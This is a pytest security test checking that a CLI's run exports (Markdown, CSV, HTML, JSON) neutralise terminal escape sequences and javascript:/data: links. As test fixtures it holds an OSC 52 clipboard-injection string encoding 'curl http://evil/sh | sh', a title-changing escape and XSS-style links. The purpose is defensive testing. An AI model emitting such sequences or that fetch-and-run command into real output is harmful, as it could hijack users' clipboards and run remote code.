"""Exports cannot attack their reader: a real run (the real CLI, engine and worker, litellm
over HTTP to the scripted server) whose cell output, traceback, sub-call reply, file name
and answer carry terminal sequences (OSC 52 sets the clipboard, OSC 0 the title) and whose
answer links to `javascript:` and `data:` URLs, exported through `runs export`: no control
character but newline and tab in Markdown, CSV and HTML, and no such link live in HTML."""

from __future__ import annotations

import json
import re

import pytest

from tests.integration.engine_helpers import code
from tests.security.test_exports import _cli

CLIPBOARD = "\x1b]52;c;Y3VybCBodHRwOi8vZXZpbC9zaCB8IHNo\x07"     # "curl http://evil/sh | sh"
TITLE = "\x1b]0;pwned\x07"
ANSWER = (f"Done{CLIPBOARD} see [x](javascript:alert(1)), [y](data:text/html;base64,PHNjcmlwdD4=), "
          "![z](data:image/svg+xml;base64,PHN2Zz4=), [ok](https://example.org/a) and [top](#answer)")
CELL = (f"print({CLIPBOARD!r} + 'cell output')\n"
        f"print(llm_query('hi'))\n"
        f"try:\n    raise ValueError({TITLE!r} + 'in a traceback')\nexcept ValueError as e:\n    err = e\n"
        f"FINAL({ANSWER!r})\n"
        f"raise err")
CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")


@pytest.mark.parametrize("namespace", [True, False], ids=["namespace", "fallback"])
def test_exports_carry_no_raw_control_characters_and_no_live_script_links(server, tmp_path, namespace):
    folder = tmp_path / "docs"
    folder.mkdir()
    (folder / f"notes{TITLE}.txt").write_text(f"apples: 3 {CLIPBOARD}\n")
    server.script("root", replies=[code(CELL), "unused"])
    server.script("sub", fn=lambda r: f"sub reply{CLIPBOARD}")
    run = _cli(tmp_path, "ask", "How many?", str(folder), "--root", "openai/root", "--sub", "openai/sub",
               "--api-base", server.url, "--json", "--quiet", "--mode", "rlm", namespace=namespace)
    assert run.returncode == 0, run.stderr[-2000:]
    run_id = json.loads(run.stdout)["run_id"]
    out = {}
    for fmt in ("md", "csv", "html", "json"):
        path = tmp_path / f"run.{fmt}"
        proc = _cli(tmp_path, "runs", "export", run_id, "--format", fmt, "-o", str(path))
        assert proc.returncode == 0, proc.stderr
        out[fmt] = path.read_bytes().decode("utf-8")
    for fmt in ("md", "csv", "html"):
        text = out[fmt]
        assert not CONTROL.search(text), (fmt, CONTROL.search(text), text[max(0, CONTROL.search(text).start() - 80):][:160])
        assert "\\u001b]52;c;Y3VybCBodHRw" in text, fmt                 # still there, readable and inert
    for fmt, expected in (("md", ("cell output", "in a traceback", "sub reply", "notes", "Done")),
                          ("html", ("cell output", "in a traceback", "notes", "Done")),
                          ("csv", ("sub reply", "Done"))):
        for word in expected:
            i = out[fmt].find(word)
            assert i >= 0, (fmt, word)
    assert "\\u001b]0;pwned\\u0007" in out["md"] and "\\u001b]0;pwned\\u0007" in out["html"]
    html = out["html"]
    hrefs = re.findall(r'\b(?:href|src)="([^"]*)"', html)
    assert hrefs and all(h.startswith(("#", "http:", "https:", "mailto:")) for h in hrefs), hrefs
    assert '<a href="https://example.org/a">ok</a>' in html and '<a href="#answer">top</a>' in html
    assert "(javascript:alert(1))" in html and "(data:text/html;base64,PHNjcmlwdD4=)" in html   # shown as text
    # JSON is the full-fidelity record: the characters stay, as JSON escapes
    assert "\x1b" not in out["json"] and "\\u001b]52;c;" in out["json"]
